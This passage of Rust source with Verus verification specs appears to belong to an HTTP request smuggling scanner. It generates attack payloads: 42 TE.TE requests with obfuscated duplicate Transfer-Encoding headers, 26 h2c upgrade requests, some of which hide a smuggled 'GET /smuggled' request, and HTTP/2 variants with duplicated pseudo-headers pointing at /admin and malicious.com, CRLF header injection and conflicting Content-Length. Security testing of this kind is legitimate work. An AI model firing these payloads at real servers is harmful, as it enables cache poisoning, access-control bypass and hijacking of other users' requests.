        texts_of(final(list)@) == texts_of(old(list)@) + dual_nested(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: identity, chunked, identity");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_nested());
}

/// White space in the second header.
pub open spec fn dual_spaced() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, " Transfer-Encoding: chunked"@),
        dual("Transfer-Encoding: chunked"@, "\tTransfer-Encoding: chunked"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding : chunked"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding:\tchunked"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding:  chunked"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding:chunked"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_spaced(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_spaced(),
{
    push_dual(list, "Transfer-Encoding: chunked", " Transfer-Encoding: chunked");
    push_dual(list, "Transfer-Encoding: chunked", "\tTransfer-Encoding: chunked");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding : chunked");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding:\tchunked");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding:  chunked");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding:chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_spaced());
}

/// The value of the second header in quotes.
pub open spec fn dual_quoted() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: \"chunked\""@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: 'chunked'"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_quoted(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_quoted(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: \"chunked\"");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: 'chunked'");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_quoted());
}

/// The second header in other cases.
pub open spec fn dual_recased() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "transfer-encoding: chunked"@),
        dual("Transfer-Encoding: chunked"@, "TRANSFER-ENCODING: CHUNKED"@),
        dual("Transfer-Encoding: chunked"@, "TRANSFER-ENCODING: chunked"@),
        dual("Transfer-Encoding: chunked"@, "TrAnSfEr-EnCoDiNg: ChUnKeD"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-encoding: chunked"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_recased(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_recased(),
{
    push_dual(list, "Transfer-Encoding: chunked", "transfer-encoding: chunked");
    push_dual(list, "Transfer-Encoding: chunked", "TRANSFER-ENCODING: CHUNKED");
    push_dual(list, "Transfer-Encoding: chunked", "TRANSFER-ENCODING: chunked");
    push_dual(list, "Transfer-Encoding: chunked", "TrAnSfEr-EnCoDiNg: ChUnKeD");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_recased());
}

/// The hyphen of the second name replaced.
pub open spec fn dual_renamed() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Transfer_Encoding: chunked"@),
        dual("Transfer-Encoding: chunked"@, "Transfer Encoding: chunked"@),
        dual("Transfer-Encoding: chunked"@, "Transfer\\Encoding: chunked"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_renamed(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_renamed(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Transfer_Encoding: chunked");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer Encoding: chunked");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer\\Encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_renamed());
}

/// The second header folded over two lines.
pub open spec fn dual_folded() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding:\n chunked"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding:\r\n chunked"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding:\r\n\tchunked"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_folded(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_folded(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding:\n chunked");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding:\r\n chunked");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding:\r\n\tchunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_folded());
}

/// A control character in the second header.
pub open spec fn dual_control() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding:\x0Bchunked"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: chunked\r"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: chunked\t"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: chunked\x00"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_control(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_control(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding:\x0Bchunked");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: chunked\r");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: chunked\t");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: chunked\x00");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_control());
}

/// The value of the second header cut short.
pub open spec fn dual_truncated() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: chunk"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_truncated(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_truncated(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: chunk");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_truncated());
}

/// The second header after a line with a bad ending.
pub open spec fn dual_misended() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Foo: bar\rTransfer-Encoding: chunked"@),
        dual("Transfer-Encoding: chunked"@, "Foo: bar\nTransfer-Encoding: chunked"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_misended(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_misended(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Foo: bar\rTransfer-Encoding: chunked");
    push_dual(list, "Transfer-Encoding: chunked", "Foo: bar\nTransfer-Encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_misended());
}

/// A `Content-Encoding` header in place of the second one.
pub open spec fn dual_content_encoding() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Content-Encoding: chunked"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_content_encoding(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_content_encoding(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Content-Encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_content_encoding());
}

/// One letter of the second name percent-encoded.
pub open spec fn dual_url_encoded() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Transfer-%45ncoding: chunked"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_url_encoded(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_url_encoded(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-%45ncoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_url_encoded());
}

/// A `Connection` header that names `Transfer-Encoding` before the second one.
pub open spec fn dual_connection() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_connection(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_connection(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_connection());
}

/// A byte above 0x7F in the name of the second header.
pub open spec fn dual_high_byte() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, around("Transfer-Encoding"@, 0x85, ": chunked"@)),
        dual("Transfer-Encoding: chunked"@, around("Transfer-Encoding"@, 0xA0, ": chunked"@)),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_high_byte(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_high_byte(),
{
    push_dual(list, "Transfer-Encoding: chunked", around_text("Transfer-Encoding", 0x85, ": chunked").as_str());
    push_dual(list, "Transfer-Encoding: chunked", around_text("Transfer-Encoding", 0xA0, ": chunked").as_str());
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_high_byte());
}

/// The ends of all TE.TE requests, in the order in which they are tried.
pub open spec fn te_te_tails() -> Seq<Seq<char>> {
    dual_basic()
        + dual_reversed()
        + dual_combined()
        + dual_nested()
        + dual_spaced()
        + dual_quoted()
        + dual_recased()
        + dual_renamed()
        + dual_folded()
        + dual_control()
        + dual_truncated()
        + dual_misended()
        + dual_content_encoding()
        + dual_url_encoded()
        + dual_connection()
        + dual_high_byte()
}

/// The TE.TE requests: each has two `Transfer-Encoding` headers, of which a
/// server may honour one and its peer the other.
pub open spec fn te_te_payloads_of(
    path: Seq<char>,
    host: Seq<char>,
    method: Seq<char>,
    custom_headers: Seq<Seq<char>>,
    cookies: Seq<Seq<char>>,
) -> Seq<Seq<char>> {
    prefixed(request_head(method, path, host, custom_headers, cookies), te_te_tails())
}

/// Generates the TE.TE attack requests.
pub fn get_te_te_payloads(
    path: &str,
    host: &str,
    method: &str,
    custom_headers: &[String],
    cookies: &[String],
) -> (payloads: Vec<String>)
    ensures
        texts_of(payloads@) == te_te_payloads_of(
            path@,
            host@,
            method@,
            texts_of(custom_headers@),
            texts_of(cookies@),
        ),
        payloads.len() == 42,
{
    let head = make_request_head(method, path, host, custom_headers, cookies);
    let mut tails: Vec<String> = Vec::new();
    assert(texts_of(tails@) =~= Seq::<Seq<char>>::empty());
    push_dual_basic(&mut tails);
    assert(texts_of(tails@) =~= dual_basic());
    push_dual_reversed(&mut tails);
    push_dual_combined(&mut tails);
    push_dual_nested(&mut tails);
    push_dual_spaced(&mut tails);
    push_dual_quoted(&mut tails);
    push_dual_recased(&mut tails);
    push_dual_renamed(&mut tails);
    push_dual_folded(&mut tails);
    push_dual_control(&mut tails);
    push_dual_truncated(&mut tails);
    push_dual_misended(&mut tails);
    push_dual_content_encoding(&mut tails);
    push_dual_url_encoded(&mut tails);
    push_dual_connection(&mut tails);
    push_dual_high_byte(&mut tails);
    let payloads = prefix_each(head.as_str(), &tails);
    assert(texts_of(payloads@).len() == payloads.len());
    payloads
}

/// The plain upgrade to HTTP/2 over cleartext, without and with a request hidden behind it.
pub open spec fn h2c_upgrade_tails() -> Seq<Seq<char>> {
    seq![
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0\r\n\r\n"@,
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 30\r\n\r\nGET /smuggled HTTP/1.1\r\nFoo: x"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2c_upgrade_tails(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2c_upgrade_tails(),
{
    push_str(list, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0\r\n\r\n");
    push_str(list, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 30\r\n\r\nGET /smuggled HTTP/1.1\r\nFoo: x");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2c_upgrade_tails());
}

/// The `Connection` header of an upgrade in other forms.
pub open spec fn h2c_connection_headers() -> Seq<Seq<char>> {
    seq![
        "Connection: Upgrade, HTTP2-Settings, close"@,
        "Connection: Upgrade,HTTP2-Settings"@,
        "Connection: Upgrade, HTTP2-Settings, keep-alive"@,
        "Connection: HTTP2-Settings, Upgrade"@,
        "Connection: upgrade, http2-settings"@,
        "Connection: UPGRADE, HTTP2-SETTINGS"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2c_connection_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2c_connection_headers(),
{
    push_str(list, "Connection: Upgrade, HTTP2-Settings, close");
    push_str(list, "Connection: Upgrade,HTTP2-Settings");
    push_str(list, "Connection: Upgrade, HTTP2-Settings, keep-alive");
    push_str(list, "Connection: HTTP2-Settings, Upgrade");
    push_str(list, "Connection: upgrade, http2-settings");
    push_str(list, "Connection: UPGRADE, HTTP2-SETTINGS");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2c_connection_headers());
}

/// The `Upgrade` header in other forms.
pub open spec fn h2c_upgrade_headers() -> Seq<Seq<char>> {
    seq![
        "Upgrade: h2c"@,
        "Upgrade: H2C"@,
        "Upgrade: h2c, http/1.1"@,
        "Upgrade: http/1.1, h2c"@,
        " Upgrade: h2c"@,
        "Upgrade : h2c"@,
        "Upgrade:\th2c"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2c_upgrade_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2c_upgrade_headers(),
{
    push_str(list, "Upgrade: h2c");
    push_str(list, "Upgrade: H2C");
    push_str(list, "Upgrade: h2c, http/1.1");
    push_str(list, "Upgrade: http/1.1, h2c");
    push_str(list, " Upgrade: h2c");
    push_str(list, "Upgrade : h2c");
    push_str(list, "Upgrade:\th2c");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2c_upgrade_headers());
}

/// The `HTTP2-Settings` header with other settings and in other forms.
pub open spec fn h2c_settings_headers() -> Seq<Seq<char>> {
    seq![
        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"@,
        "HTTP2-Settings: AAQAAP__"@,
        "HTTP2-Settings: AAMAAABkAAQAAP__AAIAAAAA"@,
        "http2-settings: AAMAAABkAARAAAAAAAIAAAAA"@,
        "HTTP2-SETTINGS: AAMAAABkAARAAAAAAAIAAAAA"@,
        "HTTP2-Settings:AAMAAABkAARAAAAAAAIAAAAA"@,
        " HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2c_settings_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2c_settings_headers(),
{
    push_str(list, "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA");
    push_str(list, "HTTP2-Settings: AAQAAP__");
    push_str(list, "HTTP2-Settings: AAMAAABkAAQAAP__AAIAAAAA");
    push_str(list, "http2-settings: AAMAAABkAARAAAAAAAIAAAAA");
    push_str(list, "HTTP2-SETTINGS: AAMAAABkAARAAAAAAAIAAAAA");
    push_str(list, "HTTP2-Settings:AAMAAABkAARAAAAAAAIAAAAA");
    push_str(list, " HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2c_settings_headers());
}

/// The upgrade together with conflicting body lengths, and with two `Upgrade` headers.
pub open spec fn h2c_mixed_tails() -> Seq<Seq<char>> {
    seq![
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"@,
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n1\r\nA\r\n0\r\n\r\n"@,
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nUpgrade: http/1.1\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0\r\n\r\n"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2c_mixed_tails(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2c_mixed_tails(),
{
    push_str(list, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG");
    push_str(list, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n1\r\nA\r\n0\r\n\r\n");
    push_str(list, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nUpgrade: http/1.1\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0\r\n\r\n");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2c_mixed_tails());
}

/// The ends of the H2C requests that begin with the request line and the
/// `Host` header, in the order in which they are tried.
pub open spec fn h2c_tails() -> Seq<Seq<char>> {
    h2c_upgrade_tails()
        + wrapped(""@, h2c_connection_headers(), "\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0\r\n\r\n"@)
        + wrapped("Connection: Upgrade, HTTP2-Settings\r\n"@, h2c_upgrade_headers(), "\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0\r\n\r\n"@)
        + wrapped("Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"@, h2c_settings_headers(), "\r\nContent-Length: 0\r\n\r\n"@)
        + h2c_mixed_tails()
}

/// The H2C request that sends its settings before the `Host` header.
pub open spec fn h2c_settings_first(
    path: Seq<char>,
    host: Seq<char>,
    method: Seq<char>,
    custom_headers: Seq<Seq<char>>,
    cookies: Seq<Seq<char>>,
) -> Seq<char> {
    method + " "@ + path + " HTTP/1.1\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nHost: "@ + host + "\r\n"@ + custom_header_block(custom_headers) + cookie_block(
        cookies,
    ) + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nContent-Length: 0\r\n\r\n"@
}

/// The H2C requests: upgrades from HTTP/1.1 to HTTP/2 over cleartext that a
/// front end may pass on without understanding them.
pub open spec fn h2c_payloads_of(
    path: Seq<char>,
    host: Seq<char>,
    method: Seq<char>,
    custom_headers: Seq<Seq<char>>,
    cookies: Seq<Seq<char>>,
) -> Seq<Seq<char>> {
    prefixed(request_head(method, path, host, custom_headers, cookies), h2c_tails()).push(
        h2c_settings_first(path, host, method, custom_headers, cookies),
    )
}

/// Puts the wrapped form of each item at the end of a list.
fn push_wrapped(list: &mut Vec<String>, before: &str, items: &Vec<String>, after: &str)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + wrapped(
            before@,
            texts_of(items@),
            after@,
        ),
{
    let ghost start = texts_of(list@);
    let ghost lines = wrapped(before@, texts_of(items@), after@);
    let mut i: usize = 0;
    assert(texts_of(list@) =~= start + lines.take(0));
    while i < items.len()
        invariant
            i <= items.len(),
            lines == wrapped(before@, texts_of(items@), after@),
            texts_of(list@) == start + lines.take(i as int),
        decreases items.len() - i,
    {
        push_between(list, before, items[i].as_str(), after);
        i += 1;
        assert(texts_of(list@) =~= start + lines.take(i as int));
    }
    assert(lines.take(items.len() as int) =~= lines);
}

/// An empty list of strings.
fn fresh_list() -> (list: Vec<String>)
    ensures
        texts_of(list@) == Seq::<Seq<char>>::empty(),
{
    let list: Vec<String> = Vec::new();
    assert(texts_of(list@) =~= Seq::<Seq<char>>::empty());
    list
}

/// Generates the H2C attack requests.
pub fn get_h2c_payloads(
    path: &str,
    host: &str,
    method: &str,
    custom_headers: &[String],
    cookies: &[String],
) -> (payloads: Vec<String>)
    ensures
        texts_of(payloads@) == h2c_payloads_of(
            path@,
            host@,
            method@,
            texts_of(custom_headers@),
            texts_of(cookies@),
        ),
        payloads.len() == 26,
{
    let head = make_request_head(method, path, host, custom_headers, cookies);
    let mut connection_variations = fresh_list();
    push_h2c_connection_headers(&mut connection_variations);
    assert(texts_of(connection_variations@) =~= h2c_connection_headers());
    let mut upgrade_variations = fresh_list();
    push_h2c_upgrade_headers(&mut upgrade_variations);
    assert(texts_of(upgrade_variations@) =~= h2c_upgrade_headers());
    let mut settings_variations = fresh_list();
    push_h2c_settings_headers(&mut settings_variations);
    assert(texts_of(settings_variations@) =~= h2c_settings_headers());
    let mut tails = fresh_list();
    push_h2c_upgrade_tails(&mut tails);
    assert(texts_of(tails@) =~= h2c_upgrade_tails());
    push_wrapped(&mut tails, "", &connection_variations, "\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0\r\n\r\n");
    push_wrapped(&mut tails, "Connection: Upgrade, HTTP2-Settings\r\n", &upgrade_variations, "\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0\r\n\r\n");
    push_wrapped(&mut tails, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n", &settings_variations, "\r\nContent-Length: 0\r\n\r\n");
    push_h2c_mixed_tails(&mut tails);
    let mut payloads = prefix_each(head.as_str(), &tails);
    let mut last = String::from_str(method);
    last.append(" ");
    last.append(path);
    last.append(" HTTP/1.1\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nHost: ");
    last.append(host);
    last.append("\r\n");
    last.append(format_custom_headers(custom_headers).as_str());
    last.append(format_cookies(cookies).as_str());
    last.append("Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nContent-Length: 0\r\n\r\n");
    push_text(&mut payloads, last);
    assert(texts_of(payloads@).len() == payloads.len());
    payloads
}

/// A pseudo-header given twice.
pub open spec fn h2_pseudo_header_tails(path: Seq<char>, host: Seq<char>) -> Seq<Seq<char>> {
    seq![
        ":method: GET\r\n:method: POST\r\nContent-Length: 0\r\n\r\n"@,
        ":path: "@ + path + "\r\n:path: /admin\r\nContent-Length: 0\r\n\r\n"@,
        ":authority: "@ + host + "\r\n:authority: malicious.com\r\nContent-Length: 0\r\n\r\n"@,
        ":scheme: https\r\n:scheme: http\r\nContent-Length: 0\r\n\r\n"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_pseudo_header_tails(list: &mut Vec<String>, path: &str, host: &str)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_pseudo_header_tails(path@, host@),
{
    push_str(list, ":method: GET\r\n:method: POST\r\nContent-Length: 0\r\n\r\n");
    push_between(list, ":path: ", path, "\r\n:path: /admin\r\nContent-Length: 0\r\n\r\n");
    push_between(list, ":authority: ", host, "\r\n:authority: malicious.com\r\nContent-Length: 0\r\n\r\n");
    push_str(list, ":scheme: https\r\n:scheme: http\r\nContent-Length: 0\r\n\r\n");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_pseudo_header_tails(path@, host@));
}

/// A colon at the start or in the middle of a header name.
pub open spec fn h2_colon_name_tails() -> Seq<Seq<char>> {
    seq![
        ":custom-header: value\r\nContent-Length: 0\r\n\r\n"@,
        "x-custom:header: value\r\nContent-Length: 0\r\n\r\n"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_colon_name_tails(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_colon_name_tails(),
{
    push_str(list, ":custom-header: value\r\nContent-Length: 0\r\n\r\n");
    push_str(list, "x-custom:header: value\r\nContent-Length: 0\r\n\r\n");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_colon_name_tails());
}

/// A `Content-Length` that hides a second request, alone and doubled.
pub open spec fn h2_length_conflict_tails(host: Seq<char>) -> Seq<Seq<char>> {
    seq![
        "Content-Length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: "@ + host + "\r\n\r\n"@,
        "Content-Length: 0\r\nContent-Length: 44\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: "@ + host + "\r\n\r\n"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_length_conflict_tails(list: &mut Vec<String>, host: &str)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_length_conflict_tails(host@),
{
    push_between(list, "Content-Length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ", host, "\r\n\r\n");
    push_between(list, "Content-Length: 0\r\nContent-Length: 44\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ", host, "\r\n\r\n");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_length_conflict_tails(host@));
}

/// A line feed or a line ending inside a header value.
pub open spec fn h2_newline_value_tails() -> Seq<Seq<char>> {
    seq![
        "X-Custom: value1\nX-Injected: injected\r\nContent-Length: 0\r\n\r\n"@,
        "X-Custom: value1\r\nX-Injected: injected\r\nContent-Length: 0\r\n\r\n"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_newline_value_tails(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_newline_value_tails(),
{
    push_str(list, "X-Custom: value1\nX-Injected: injected\r\nContent-Length: 0\r\n\r\n");
    push_str(list, "X-Custom: value1\r\nX-Injected: injected\r\nContent-Length: 0\r\n\r\n");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_newline_value_tails());
}

/// A `Transfer-Encoding` header, which HTTP/2 forbids.
pub open spec fn h2_transfer_encoding_tails() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\nG"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_transfer_encoding_tails(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_transfer_encoding_tails(),
{
    push_str(list, "Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\nG");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_transfer_encoding_tails());
}

/// Headers that belong to one connection, which HTTP/2 forbids.
pub open spec fn h2_connection_specific_tails() -> Seq<Seq<char>> {
    seq![
        "Connection: close\r\nContent-Length: 0\r\n\r\n"@,
        "Keep-Alive: timeout=5\r\nContent-Length: 0\r\n\r\n"@,
        "Proxy-Connection: keep-alive\r\nContent-Length: 0\r\n\r\n"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_connection_specific_tails(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_connection_specific_tails(),
{
    push_str(list, "Connection: close\r\nContent-Length: 0\r\n\r\n");
    push_str(list, "Keep-Alive: timeout=5\r\nContent-Length: 0\r\n\r\n");
    push_str(list, "Proxy-Connection: keep-alive\r\nContent-Length: 0\r\n\r\n");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_connection_specific_tails());
}

/// A pseudo-header in upper or mixed case.
pub open spec fn h2_recased_pseudo_tails() -> Seq<Seq<char>> {
    seq![
        ":Method: POST\r\nContent-Length: 0\r\n\r\n"@,
        ":PATH: /admin\r\nContent-Length: 0\r\n\r\n"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_recased_pseudo_tails(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_recased_pseudo_tails(),
{
    push_str(list, ":Method: POST\r\nContent-Length: 0\r\n\r\n");
    push_str(list, ":PATH: /admin\r\nContent-Length: 0\r\n\r\n");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_recased_pseudo_tails());
}

/// A pseudo-header after an ordinary header.
pub open spec fn h2_misordered_tails() -> Seq<Seq<char>> {
    seq![
        "X-Custom: value\r\n:method: POST\r\nContent-Length: 0\r\n\r\n"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_misordered_tails(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_misordered_tails(),
{
    push_str(list, "X-Custom: value\r\n:method: POST\r\nContent-Length: 0\r\n\r\n");
    assert(texts_of(list@) =~= texts_of(old(list)@) + h2_misordered_tails());
}

/// Underscores in a header name.
pub open spec fn h2_underscore_name_tails() -> Seq<Seq<char>> {
    seq![
        "x_custom_header: value\r\nContent-Length: 0\r\n\r\n"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_h2_underscore_name_tails(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + h2_underscore_name_tails(),
{
